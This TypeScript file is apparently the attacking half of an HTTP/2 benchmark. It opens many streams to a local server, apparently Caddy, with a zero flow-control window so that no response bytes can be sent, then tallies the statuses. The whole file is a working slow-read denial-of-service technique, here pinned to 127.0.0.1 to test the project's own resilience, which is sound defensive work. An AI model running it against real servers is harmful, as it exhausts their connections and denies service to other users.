// The attacking side of bench/connections.ts over HTTP/2, in a process of its own: opens streams and gives none of them a window,
// so that no byte of an answer can be sent.
import { connect } from 'node:http2'

/** The number of streams that Caddy accepts on a connection. */
const STREAMS_OF_CONNECTION = 250

const [port, streams, seconds] = process.argv.slice(2).map(Number)
const statuses = new Map<number | string, number>()
const sessions = Array.from({ length: Math.ceil((streams ?? 0) / STREAMS_OF_CONNECTION) }, open)
setTimeout(end, (seconds ?? 0) * 1000)

function open() {
  const settings = { initialWindowSize: 0 }
  const session = connect(`https://waymark.localhost:${port}`, {
    rejectUnauthorized: false,
    settings,
    lookup: (_host, { all }, done) => {
      if (all) done(null, [{ address: '127.0.0.1', family: 4 }])
      else done(null, '127.0.0.1', 4)
    },
  })
  session.on('error', () => undefined)
  session.once('remoteSettings', () => {
    for (let n = 0; n < STREAMS_OF_CONNECTION; n++) {
      const stream = session.request({ ':path': '/' })
      stream.on('response', ({ ':status': status = 0 }) => count(status))
      stream.on('error', () => count('cut off'))
    }
  })
  return session
}

function count(what: number | string): void {
  statuses.set(what, (statuses.get(what) ?? 0) + 1)
}

function end(): void {
  console.log(`the attacker was answered ${JSON.stringify(Object.fromEntries(statuses))}`)
  for (const session of sessions) session.destroy()
}
